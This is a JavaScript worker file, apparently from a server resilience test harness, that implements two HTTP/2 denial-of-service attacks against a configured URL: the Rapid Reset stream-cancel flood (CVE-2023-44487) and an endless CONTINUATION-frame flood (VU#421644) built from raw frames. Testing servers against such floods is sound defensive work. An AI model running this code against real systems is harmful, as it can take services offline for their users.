// Attacks by HTTP/2, in a thread of their own so that whoever measures does not wait for them.

import { connect as connectHttp2, constants } from 'node:http2';
import { connect } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

const { attack, url } = workerData;
let enough = false;
parentPort.once('message', () => (enough = true));

/** Opens streams and resets each at once (CVE-2023-44487), one connection after the other. */
async function rapidReset() {
  const figures = { connections: 0, streams: 0, goneAways: 0 };
  while (!enough) {
    figures.connections += 1;
    const session = connectHttp2(url);
    session.on('error', () => {});
    session.on('goaway', () => (figures.goneAways += 1));
    const ended = new Promise((resolve) => session.once('close', resolve));
    // Whoever is not sent away gets no further than this.
    for (let streams = 0; !session.closed && !session.destroyed && streams < 20_000; streams += 1) {
      const stream = session.request({ ':method': 'GET', ':path': '/.well-known/oauth-authorization-server' });
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
      figures.streams += 1;
      if (streams % 20 === 0) await new Promise(setImmediate);
    }
    session.destroy();
    await ended;
  }
  return figures;
}

/** Opens a stream by HEADERS that does not end, and sends CONTINUATION after CONTINUATION (VU#421644). */
async function endlessHead() {
  const figures = { connections: 0, bytes: 0, most: 0 };
  while (!enough) {
    figures.connections += 1;
    const bytes = await endlessHeadOnce();
    figures.bytes += bytes;
    figures.most = Math.max(figures.most, bytes);
  }
  return figures;
}

async function endlessHeadOnce() {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), noDelay: true });
  socket.on('error', () => {});
  socket.resume();
  let open = true;
  const ended = new Promise((resolve) => socket.once('close', resolve));
  ended.then(() => (open = false));
  await new Promise((resolve) => socket.once('connect', resolve));
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, Buffer.alloc(0))]));
  // The pseudo-headers by their index in the static table (RFC 7541, Appendix A): GET / by http.
  socket.write(frame(HEADERS, 1, Buffer.from([0x82, 0x84, 0x86])));
  const flood = Buffer.concat(Array.from({ length: 16 }, () => frame(CONTINUATION, 1, fields())));
  let sent = 0;
  while (open && sent < 64 * 1024 ** 2) {
    const drained = socket.write(flood) || new Promise((resolve) => socket.once('drain', resolve));
    await Promise.race([drained, ended]);
    await Promise.race([ended, new Promise(setImmediate)]);
    sent = socket.bytesWritten;
  }
  socket.destroy();
  await ended;
  return sent;
}

// Literal header fields that no table keeps, of a name of one byte and a value of a hundred.
const fields = () => Buffer.concat(Array.from({ length: 40 }, () => Buffer.concat([Buffer.from([0, 1, 0x78, 100]), Buffer.alloc(100, 'y')])));

function frame(type, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const HEADERS = 1;
const SETTINGS = 4;
const CONTINUATION = 9;

parentPort.postMessage(await { rapidReset, endlessHead }[attack]());
